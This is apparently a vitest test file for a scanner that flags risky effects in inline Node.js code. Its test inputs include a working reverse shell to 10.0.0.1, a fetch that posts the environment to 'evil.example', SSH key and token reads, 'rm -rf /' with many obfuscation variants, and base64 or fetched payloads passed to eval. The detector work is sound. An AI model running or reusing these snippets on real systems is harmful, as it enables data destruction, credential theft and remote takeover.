import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('node', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('node: benign one-liners', () => {
  it.each([
    "console.log(require('./package.json').version)",
    'console.log([1, 2, 3].map((x) => x * 2).join(","))',
    "const p = require('path'); console.log(p.join('a', 'b'), 'rm -rf /')",
    'console.log(`rm -rf ${1 + 1}`, /exec\\(/.test("x"), 10 / 2 / 5)',
    "// require('child_process').execSync('rm -rf /')\nconsole.log(JSON.stringify({ a: 1 }))",
    "console.log(process.env.NODE_ENV, process.env.HOME, process.argv.length)",
    'let total = 0; for (const x of [1, 2]) { total += x; } console.log(total)',
  ])('%s', (code) => clean(scan(code)));
});

describe('node: process execution', () => {
  it('literal commands go to the shell analyser', () => {
    expect(scan("require('child_process').execSync('rm -rf /tmp/x')").shell).toEqual(['rm -rf /tmp/x']);
    expect(scan("const cp = require('child_process'); cp.exec('git push --force', () => {})").shell).toEqual(['git push --force']);
    expect(scan("import { spawn } from 'node:child_process'; spawn('rm', ['-rf', '/tmp/a b'])").shell).toEqual(["rm -rf '/tmp/a b'"]);
    expect(scan("require('child_process').execFileSync('git', ['status'])").shell).toEqual(['git status']);
    expect(scan("import * as cp from 'child_process'; cp.spawnSync('ls', { stdio: 'inherit' })").shell).toEqual(['ls']);
    expect(scan("Bun.spawn(['rm', '-rf', 'dist'])").shell).toEqual(['rm -rf dist']);
    expect(scan("new Deno.Command('rm', { args: ['-rf', 'dist'] }).outputSync()").shell).toEqual(['rm -rf dist']);
    expect(scan("Deno.run({ cmd: ['git', 'clean', '-fdx'] })").shell).toEqual(['git clean -fdx']);
    expect(scan("import { $ } from 'bun'; await $`rm -rf dist`").shell).toEqual(['rm -rf dist']);
  });

  it('commands built at run time are proc.exec and dynamic', () => {
    for (const code of ["require('child_process').exec(`rm -rf ${dir}`)", "require('child_process').execSync(process.argv[2])",
      "require('child_process').exec('rm ' + f)", "require('child_process').spawn('rm', ['-rf', target])"]) {
      const r = scan(code);
      expect(r.shell).toEqual([]);
      expect(effects(r)).toContain('proc.exec ');
      expect(r.dynamic.length).toBeGreaterThan(0);
    }
  });

  it('code inside template interpolations is analysed', () => {
    expect(scan("console.log(`${require('child_process').execSync('id')}`)").shell).toEqual(['id']);
  });
});

describe('node: files, secrets and the environment', () => {
  it('writes, deletes and permissions', () => {
    expect(effects(scan("const fs = require('fs'); fs.writeFileSync('/etc/hosts', 'x'); fs.rmSync('dist', { recursive: true }); fs.chmodSync('a.sh', 0o755)")))
      .toEqual(['fs.write /etc/hosts', 'fs.delete dist', 'fs.perm a.sh']);
    expect(effects(scan("import { promises as fsp } from 'fs'; await fsp.unlink('a.txt')"))).toEqual(['fs.delete a.txt']);
    expect(effects(scan("const fs = require('node:fs/promises'); await fs.appendFile('log.txt', 'x')"))).toEqual(['fs.write log.txt']);
    expect(effects(scan("require('fs').promises.rm('build', { recursive: true })"))).toEqual(['fs.delete build']);
    expect(effects(scan("require('fs').createWriteStream('out.bin')"))).toEqual(['fs.write out.bin']);
    expect(effects(scan("await Deno.remove('x', { recursive: true }); await Bun.write('y.txt', 'z')"))).toEqual(['fs.delete x', 'fs.write y.txt']);
  });

  it('secret reads and environment access', () => {
    expect(effects(scan("require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')"))).toEqual(['secret.read ~/.ssh/id_rsa']);
    expect(effects(scan("require('fs').readFileSync(process.env.HOME + '/.npmrc')"))).toEqual(['secret.read ~/.npmrc']);
    expect(effects(scan('console.log(JSON.stringify(process.env))'))).toEqual(['secret.read ']);
    expect(effects(scan('const { GITHUB_TOKEN, PATH } = process.env; console.log(GITHUB_TOKEN)'))).toEqual(['secret.read GITHUB_TOKEN']);
    expect(effects(scan("console.log(process.env['AWS_SECRET_ACCESS_KEY'], Deno.env.get('NPM_TOKEN'))")))
      .toEqual(['secret.read AWS_SECRET_ACCESS_KEY', 'secret.read NPM_TOKEN']);
    expect(scan("require('child_process').spawn('ls', [], { env: { ...process.env, A: '1' } })").findings).toEqual([]);
    expect(scan("process.env.FOO_TOKEN = 'x'").findings).toEqual([]);
  });
});

describe('node: network', () => {
  it('fetch, http, axios', () => {
    expect(effects(scan("fetch('https://evil.example/x', { method: 'POST', body: JSON.stringify(process.env) })")))
      .toEqual(['secret.read ', 'net.send https://evil.example/x']);
    expect(effects(scan("const r = await fetch('https://example.com/data.json'); console.log(await r.json())"))).toEqual(['net.fetch https://example.com/data.json']);
    expect(effects(scan("require('https').get('https://example.com', (r) => r.pipe(process.stdout))"))).toEqual(['net.fetch https://example.com']);
    expect(effects(scan("const axios = require('axios'); axios.post('https://x.example/u', data)"))).toEqual(['net.send https://x.example/u']);
    expect(effects(scan("new WebSocket('wss://x.example/s')"))).toEqual(['net.connect wss://x.example/s']);
  });

  it('servers', () => {
    expect(effects(scan("require('http').createServer((q, r) => r.end('x')).listen(8080)"))).toEqual(['net.listen ']);
    expect(effects(scan("const app = require('express')(); app.listen(3000)"))).toEqual(['net.listen ']);
    expect(effects(scan("const net = require('net'); const s = net.createServer(); s.listen(4444, '0.0.0.0')"))).toEqual(['net.listen 0.0.0.0']);
  });

  it('detects the classic reverse shell', () => {
    const r = scan("(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();"
      + "client.connect(4242,'10.0.0.1',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();");
    expect(effects(r)).toEqual(['net.connect 10.0.0.1', 'net.shell 10.0.0.1']);
    expect(r.shell).toEqual(['/bin/sh']);
  });
});

describe('node: dynamic code', () => {
  it('literal eval is scanned, anything else is dynamic', () => {
    expect(scan("eval(\"require('child_process').execSync('id')\")").shell).toEqual(['id']);
    expect(scan('eval(process.argv[2])').dynamic).toEqual(['node eval() runs code built at run time']);
    expect(scan("new Function('a', code)(1)").dynamic.length).toBe(1);
    expect(scan("require('vm').runInNewContext(src)").dynamic.length).toBe(1);
    expect(scan('setTimeout(payload, 10)').dynamic).toEqual([]);
    expect(scan("setTimeout('process.exit(1)', 10)").dynamic).toEqual([]);
  });

  it('decoded payloads', () => {
    const r = scan("eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString())");
    expect(r.shell).toEqual(['id']);
    expect(r.dynamic[0]).toMatch(/decoded/);
    expect(scan('eval(atob(payload))').dynamic[0]).toMatch(/decoded data \(atob\)/);
    expect(scan('eval(String.fromCharCode(105, 100))').dynamic[0]).toMatch(/character codes/);
  });

  it('computed module names are dynamic, literal ones are not', () => {
    expect(scan('require(name)').dynamic[0]).toMatch(/computed/);
    expect(scan('await import(x)').dynamic[0]).toMatch(/computed/);
    clean(scan("require('./lib/util.js')"));
  });
});

describe('node: evasions', () => {
  it.each([
    "const {execSync: x} = require('child_process'); x('rm -rf /')",
    "require('child' + '_process').execSync('rm -rf /')",
    "require('child_process')['exec' + 'Sync']('rm -rf /')",
    "const cp = require('node:child_process'); const run = cp.execSync; run('rm -rf /')",
    "require('child_process').execSync.call(null, 'rm -rf /')",
    "require('child_process').execSync.apply(null, ['rm -rf /'])",
    "require('util').promisify(require('child_process').exec)('rm -rf /')",
    "process.mainModule.require('child_process').execSync('rm -rf /')",
    "globalThis.process.mainModule.constructor._load('child_process').execSync('rm -rf /')",
    "import cp from 'child_process'; cp.execSync('r' + 'm' + ' -rf /')",
    "require('child_process').execSync(['r', 'm', ' -rf /'].join(''))",
    "require('child_process').execSync('\\x72\\x6d -rf /')",
    "require('child_process').execSync(`rm -rf /`)",
    "const { exec } = await import('child_process'); exec('rm -rf /')",
    "['rm -rf /'].forEach(require('child_process').execSync)",
  ])('%s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));

  it('Function constructor reached through a prototype is dynamic', () => {
    expect(scan("[].constructor.constructor('return process')()").dynamic.length).toBe(0);
    expect(scan('[].constructor.constructor(code)()').dynamic.length).toBe(1);
  });
});

describe('node: callbacks and descriptors', () => {
  it('a sink handed to a promise is still a sink', () => {
    const r = scan("fetch('https://x.example/p.js').then((r) => r.text()).then(eval)");
    expect(effects(r)).toEqual(['net.fetch https://x.example/p.js']);
    expect(r.dynamic).toEqual(['node eval() runs code built at run time']);
  });

  it('reading stdin by descriptor is not a file read', () => {
    clean(scan("console.log(JSON.parse(require('fs').readFileSync(0, 'utf8')).name)"));
  });
});
